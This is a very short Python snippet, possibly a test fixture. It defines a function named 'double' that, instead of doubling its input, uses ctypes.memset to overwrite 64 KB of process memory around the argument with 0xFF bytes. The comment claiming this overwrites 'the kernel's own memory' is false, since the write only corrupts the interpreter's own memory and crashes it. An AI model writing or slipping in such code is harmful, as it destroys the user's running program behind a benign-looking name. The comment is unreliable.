# The kernel's own memory is overwritten.
import ctypes


def double(x):
    ctypes.memset(id(x) - 4096, 255, 65_536)
    return x
